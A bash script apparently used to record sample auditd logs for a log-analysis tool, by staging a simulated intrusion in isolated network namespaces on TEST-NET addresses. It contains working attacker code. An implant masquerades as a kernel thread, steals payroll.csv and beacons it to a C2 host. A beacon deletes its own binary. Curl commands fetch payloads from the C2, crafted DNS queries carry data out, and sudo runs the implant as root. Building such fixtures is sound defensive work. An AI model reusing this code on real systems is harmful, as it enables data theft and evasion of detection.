#!/usr/bin/env bash
# Records samples/incident-1: a small, real intrusion story captured by the real auditd on this machine,
# once as log_format=RAW (rotated once, into audit.log.1 + audit.log) and once as log_format=ENRICHED.
#
# What it does, and undoes on exit (trap):
#   - creates local users alice (1001) and bob (1002) if missing, a sudoers drop-in for alice,
#     the "secret" /srv/finance/payroll.csv, and two network namespaces joined by a veth pair:
#     auditq-victim (198.51.100.10, 2001:db8::10) and auditq-c2 (the attacker's 203.0.113.66 and 2001:db8::66,
#     the intranet's 192.0.2.10), TEST-NET addresses only and no default route, so nothing leaves the machine;
#   - runs a private auditd (its own auditd.conf, logs in a temp dir) and loads narrow rules
#     (only audit sessions of uid 1001..1002, plus a watch on the secret file);
#   - "logs in" bob and alice inside the victim namespace the way pam_loginuid does (writing
#     /proc/self/loginuid, which emits a LOGIN record and starts an audit session) and plays the story;
#   - restores the kernel audit state it found (enabled flag, backlog settings, no rules), removes
#     what it created, then writes the logs and derives the expected answers (derive-expected.py).
#
# usage: sudo samples/record.sh      (needs root, auditd, sudo, curl, python3.11, iproute2, util-linux)
set -euo pipefail

here=$(cd "$(dirname "$0")" && pwd)
out=$here/incident-1
lock=/run/lock/auditq-kernel.lock
victim_ns=auditq-victim c2_ns=auditq-c2
c2_v4=203.0.113.66 c2_v6=2001:db8::66 intranet_v4=192.0.2.10 victim_v4=198.51.100.10 victim_v6=2001:db8::10
secret_dir=/srv/finance secret=/srv/finance/payroll.csv
drop=/tmp/.x                                  # where the intruder drops the payloads (part of the story)
sudoers=/etc/sudoers.d/auditq-sample-alice
node_name=web01                               # auditd.conf name=, becomes node= on every record
py=/usr/bin/python3.11

die() { echo "record.sh: $*" >&2; exit 1; }

[ "$(id -u)" = 0 ] || die "needs root: it runs auditd, creates users alice/bob and network namespaces, then removes them. Try: sudo $0"
for tool in auditd auditctl ausearch ip sudo visudo curl setpriv useradd userdel groupadd groupdel flock "$py"; do
  command -v "$tool" >/dev/null || die "needs $tool (on Debian: apt-get install auditd sudo curl iproute2 python3.11)"
done

# Only one process at a time may change kernel audit state: run the rest holding the shared lock.
if [ "${AUDITQ_RECORD_LOCKED:-}" != "$lock" ]; then
  echo "record.sh: taking $lock (waits while another process changes kernel audit state)" >&2
  exec env AUDITQ_RECORD_LOCKED="$lock" flock "$lock" "$BASH" "$0" "$@"
fi

# Refuse, rather than disturb, anything we did not set up.
[ "$(auditctl -s | awk '/^pid/{print $2}')" = 0 ] || die "an audit daemon is registered with the kernel (auditctl -s: pid != 0); stop it first"
[ -z "$(auditctl -l | grep -v '^No rules')" ] || die "audit rules are loaded by someone else (auditctl -l); refusing to replace them"
[ "$(auditctl -s | awk '/^enabled/{print $2}')" != 2 ] || die "kernel audit configuration is locked (enabled 2)"
for ns in $victim_ns $c2_ns; do
  if ip netns list | grep -qw "$ns"; then die "network namespace $ns exists (left over? remove it: ip netns del $ns)"; fi
done
for p in $secret_dir $drop $sudoers; do [ ! -e "$p" ] || die "$p exists; it is part of the recorded story, remove it first"; done
my_auid=$(cat /proc/self/loginuid)
case $my_auid in 1001|1002) die "run me from a login session other than uid $my_auid: the rules select audit sessions 1001..1002";; esac

# --- state to restore -------------------------------------------------------------------------------
read -r en0 bl0 bw0 < <(auditctl -s | awk '/^enabled/{e=$2} /^backlog_limit/{b=$2} /^backlog_wait_time /{w=$2} END{print e, b, w}')
tmp=$(mktemp -d /tmp/auditq-record.XXXXXX)
created_users="" made_ns="" apid="" servers=""

stop_auditd() {
  auditctl -D >/dev/null 2>&1 || true
  if [ -n "$apid" ]; then kill "$apid" 2>/dev/null; wait "$apid" 2>/dev/null; apid=""; fi
  auditctl -e "$en0" >/dev/null 2>&1   # auditd enabled auditing when it started
  return 0
}
cleanup() {
  set +e
  for ns in $made_ns; do for p in $(ip netns pids "$ns" 2>/dev/null); do kill "$p" 2>/dev/null; done; done
  stop_auditd
  auditctl -b "$bl0" >/dev/null 2>&1; auditctl --backlog_wait_time "$bw0" >/dev/null 2>&1; auditctl -e "$en0" >/dev/null 2>&1
  for p in $servers; do kill "$p" 2>/dev/null; done
  sleep 0.5
  for ns in $made_ns; do ip netns del "$ns" 2>/dev/null; done
  rm -f "$sudoers"
  for u in $created_users; do userdel "$u" 2>/dev/null; groupdel "$u" 2>/dev/null; done
  rm -rf "$secret_dir" "$drop" "$tmp"
}
trap cleanup EXIT
trap 'exit 130' INT TERM

# --- users, sudo, the secret ------------------------------------------------------------------------
add_user() { # name uid
  local name=$1 uid=$2 have
  have=$(getent passwd "$uid" | cut -d: -f1 || true)
  if [ "$have" = "$name" ]; then return; fi
  [ -z "$have" ] || die "uid $uid belongs to $have, not $name"
  getent passwd "$name" >/dev/null && die "user $name exists with a uid other than $uid"
  getent group "$uid" >/dev/null && die "gid $uid is taken"
  groupadd -g "$uid" "$name"
  useradd -u "$uid" -g "$uid" -M -d "/home/$name" -s /bin/bash -c "${name^}" "$name"
  created_users="$created_users $name"
}
add_user alice 1001
add_user bob 1002
echo 'alice ALL=(root) NOPASSWD: ALL' >"$tmp/sudoers"
visudo -cqf "$tmp/sudoers" && install -m 0440 "$tmp/sudoers" "$sudoers"
mkdir -p "$out"
getent passwd root alice bob >"$out/passwd"
getent group root alice bob >"$out/group"

mkdir -m 0755 "$secret_dir"
write_secret() { # before each recording, so both start from the same file
  printf '%s\n' name,department,salary alice,Engineering,98000 bob,Finance,87000 carol,Sales,91000 >"$secret"
  chmod 0644 "$secret"
}

# --- network: victim <-> c2 over one veth, TEST-NET addresses only ------------------------------------
ip netns add $victim_ns; made_ns="$victim_ns"
ip netns add $c2_ns; made_ns="$made_ns $c2_ns"
ip link add aq-victim0 netns $victim_ns type veth peer name aq-c2-0 netns $c2_ns
ip -n $victim_ns link set lo up
ip -n $victim_ns addr add $victim_v4/24 dev aq-victim0
ip -n $victim_ns addr add $victim_v6/64 dev aq-victim0 nodad
ip -n $victim_ns link set aq-victim0 up
ip -n $victim_ns route add 203.0.113.0/24 dev aq-victim0
ip -n $victim_ns route add 192.0.2.0/24 dev aq-victim0
ip -n $c2_ns link set lo up
ip -n $c2_ns addr add $c2_v4/24 dev aq-c2-0
ip -n $c2_ns addr add $c2_v6/64 dev aq-c2-0 nodad
ip -n $c2_ns addr add $intranet_v4/24 dev aq-c2-0
ip -n $c2_ns link set aq-c2-0 up
ip -n $c2_ns route add 198.51.100.0/24 dev aq-c2-0

# The c2 namespace stands for two remote hosts: the attacker's c2 (a web server with the payloads, and a
# dual-stack listener that takes beacons) and the intranet web server 192.0.2.10 (the same web server).
# They run with no audit session, so the rules below never see them.
mkdir -p "$tmp/www"
cp "$py" "$tmp/www/update"
cp "$py" "$tmp/www/beacon"
cat >"$tmp/www/kw.py" <<'PY'
# kw.py, fetched from the c2: "implant" hides as a kernel thread, listens on 4444, steals payroll.csv and
# beacons; "beacon" deletes its own binary before it calls home.
import ctypes, os, socket, sys, time
C2 = "203.0.113.66"

def implant():
    ctypes.CDLL(None).prctl(15, b"kworker/0:1", 0, 0, 0)   # PR_SET_NAME
    back = socket.socket()
    back.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    back.bind(("0.0.0.0", 4444))
    back.listen(1)
    with open("/srv/finance/payroll.csv", "rb") as f:
        loot = f.read()
    for msg in (loot, b"beat 1\n", b"beat 2\n"):
        with socket.create_connection((C2, 443)) as s:
            s.sendall(msg)
        time.sleep(2)
    back.settimeout(20)
    conn, _ = back.accept()
    conn.sendall(b"kw ready\n")
    conn.close()

def beacon():
    os.unlink(os.readlink("/proc/self/exe"))
    for _ in range(2):
        with socket.create_connection((C2, 443)) as s:
            s.sendall(b"hello from beacon\n")
        time.sleep(1)

{"implant": implant, "beacon": beacon}[sys.argv[1]]()
PY
cat >"$tmp/c2-listener.py" <<'PY'
import selectors, socket
sel = selectors.DefaultSelector()
for port in (443, 8080):
    s = socket.socket(socket.AF_INET6)
    s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind(("::", port)); s.listen(16); sel.register(s, selectors.EVENT_READ)
while True:
    for key, _ in sel.select():
        conn, _ = key.fileobj.accept()
        conn.settimeout(2)
        try: conn.recv(65536)
        except OSError: pass
        conn.close()
PY
ip netns exec $c2_ns "$py" -m http.server 80 --bind 0.0.0.0 --directory "$tmp/www" >"$tmp/www.log" 2>&1 & servers="$servers $!"
ip netns exec $c2_ns "$py" "$tmp/c2-listener.py" >"$tmp/c2.log" 2>&1 & servers="$servers $!"
for _ in $(seq 50); do
  [ "$(ip netns exec $c2_ns ss -Hltn | grep -cE ':(80|443|8080) ')" = 3 ] && break; sleep 0.1
done
[ "$(ip netns exec $c2_ns ss -Hltn | grep -cE ':(80|443|8080) ')" = 3 ] || die "the c2 listeners did not start (see $tmp/*.log)"

# --- the story, as typed by each user ------------------------------------------------------------------
# Each session is a script fed to the user's shell line by line; "#pause N" lines are not sent but make the
# typist wait, so the log shows a human pace without `sleep` processes in the exec tree.
# bob, from Finance, checks the payroll file and fetches the day's rates from the intranet server.
cat >"$tmp/bob.sh" <<SH
cd /tmp
#pause 2
cat $secret >/dev/null
#pause 3
curl -sS -o /dev/null http://$intranet_v4/ </dev/null
#pause 1
SH
# alice's account is used by the intruder: stage, recon, privilege, implant, a self-deleting beacon.
cat >"$tmp/alice.sh" <<SH
mkdir -p $drop && cd $drop
#pause 1
curl -sS -O http://$c2_v4/update -O http://$c2_v4/beacon -O http://$c2_v4/kw.py </dev/null
#pause 2
chmod +x update beacon
#pause 2
python3 - <<'PY'
import socket, time
C2 = "$c2_v4"
for _ in range(3):                                   # old tunnel port: refused
    s = socket.socket(); s.connect_ex((C2, 9001)); s.close(); time.sleep(0.3)
s = socket.socket(); s.setblocking(False)            # non-blocking: EINPROGRESS
s.connect_ex((C2, 443)); time.sleep(0.3); s.close()
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM) # "DNS" queries carrying data: sendto, then sendmsg
q = lambda label: b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00" + bytes([len(label)]) + label + b"\x00\x00\x10\x00\x01"
u.sendto(q(b"web01"), (C2, 53)); time.sleep(0.2)
u.sendmsg([q(b"alice")], [], 0, (C2, 53)); time.sleep(0.2)
u.close()
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM) # a connected UDP socket ("NTP")
u.connect((C2, 123)); u.send(b"\x1b" + 47 * b"\x00"); u.close()
s = socket.socket(socket.AF_INET6); s.connect(("$c2_v6", 443)); s.close()
s = socket.socket(socket.AF_INET6); s.connect(("::ffff:$c2_v4", 8080)); s.close()
s = socket.socket(socket.AF_UNIX); s.connect_ex("/run/dbus/system_bus_socket"); s.close()
PY
#pause 4
echo 'alice,Engineering,250000' 2>/dev/null >> $secret
#pause 3
echo 'alice,Engineering,250000' | sudo -u root tee -a $secret >/dev/null
#pause 3
sudo -u root $drop/update $drop/kw.py implant </dev/null &
#pause 3
python3 -c 'import socket; s = socket.create_connection(("127.0.0.1", 4444)); s.recv(64); s.close()' </dev/null &
#pause 2
./beacon kw.py beacon </dev/null
wait
SH

type_session() { # script: feed it to a shell, honouring "#pause N"
  local line
  while IFS= read -r line; do
    case $line in
      '#pause '*) sleep "${line#'#pause '}" ;;
      *) printf '%s\n' "$line" ;;
    esac
  done <"$1"
}
login_and_run() { # uid script: what pam_loginuid and a login shell do, inside the victim namespace
  type_session "$2" | (cd / && ip netns exec $victim_ns bash -c "echo $1 >/proc/self/loginuid && exec setpriv --reuid=$1 --regid=$1 --init-groups --reset-env bash -s")
}

record() { # format destdir rotate(yes|no)
  local format=$1 dest=$2 rotate=$3 logs=$tmp/logs-$1
  mkdir -p "$logs" "$tmp/conf-$format/plugins.d"
  cat >"$tmp/conf-$format/auditd.conf" <<CONF
local_events = yes
write_logs = yes
log_file = $logs/audit.log
log_group = root
log_format = $format
flush = DATA
freq = 0
num_logs = 5
name_format = USER
name = $node_name
max_log_file = 8
max_log_file_action = ROTATE
space_left = 75
space_left_action = IGNORE
admin_space_left = 50
admin_space_left_action = IGNORE
disk_full_action = IGNORE
disk_error_action = IGNORE
plugin_dir = $tmp/conf-$format/plugins.d
CONF
  rm -rf "$drop"
  write_secret
  auditd -c "$tmp/conf-$format" -n >"$tmp/auditd-$format.out" 2>&1 & apid=$!
  for _ in $(seq 50); do [ "$(auditctl -s | awk '/^pid/{print $2}')" = "$apid" ] && break; sleep 0.1; done
  [ "$(auditctl -s | awk '/^pid/{print $2}')" = "$apid" ] || die "auditd did not register (see $tmp/auditd-$format.out)"
  auditctl -b 8192 >/dev/null; auditctl --backlog_wait_time 60000 >/dev/null
  local lost0; lost0=$(auditctl -s | awk '/^lost/{print $2}')
  # Narrow rules keep the log small: only the audit sessions of alice and bob (auid 1001..1002; unset
  # is 4294967295 and so excluded), and the secret file. i386 has no plain accept(2); socketcall(2) is
  # how older 32-bit code reaches all socket calls.
  auditctl -a always,exit -F arch=b64 -S connect,socket,bind,listen,accept,accept4,sendto,sendmsg -F auid\>=1001 -F auid\<=1002 -k net >/dev/null
  auditctl -a always,exit -F arch=b32 -S connect,socket,bind,listen,accept4,sendto,sendmsg,socketcall -F auid\>=1001 -F auid\<=1002 -k net >/dev/null
  auditctl -a always,exit -F arch=b64 -S execve,execveat -F auid\>=1001 -F auid\<=1002 -k exec >/dev/null
  auditctl -a always,exit -F arch=b32 -S execve,execveat -F auid\>=1001 -F auid\<=1002 -k exec >/dev/null
  auditctl -w "$secret" -p rwxa -k secret >/dev/null
  sleep 1
  login_and_run 1002 "$tmp/bob.sh"
  sleep 2
  if [ "$rotate" = yes ]; then
    # Rotate (auditd's SIGUSR1, what `service auditd rotate` sends) right after the implant's first
    # beacon, so its connections span audit.log.1 and audit.log.
    ( for _ in $(seq 300); do
        grep -q 'syscall=42 .*comm="kworker/0:1"' "$logs/audit.log" 2>/dev/null && { kill -USR1 "$apid"; exit 0; }
        sleep 0.1
      done; echo "record.sh: did not see the implant's first beacon; not rotating" >&2 ) &
    local rotator=$!
  fi
  login_and_run 1001 "$tmp/alice.sh"
  if [ "$rotate" = yes ]; then
    wait "$rotator"
    [ -e "$logs/audit.log.1" ] || die "auditd did not rotate the $format log"
  fi
  sleep 1
  local lost1; lost1=$(auditctl -s | awk '/^lost/{print $2}')
  stop_auditd
  [ "$lost1" = "$lost0" ] || die "the kernel lost $((lost1 - lost0)) audit records during the $format recording"
  rm -rf "$dest"; mkdir -p "$dest"
  cp "$logs"/audit.log* "$dest"/
  chmod 0644 "$dest"/audit.log*
  echo "record.sh: $format -> $(cd "$dest" && ls audit.log* | tr '\n' ' ')" >&2
}

record RAW "$out/raw" yes
record ENRICHED "$out/enriched" no

cleanup; trap - EXIT
"$py" "$here/derive-expected.py"
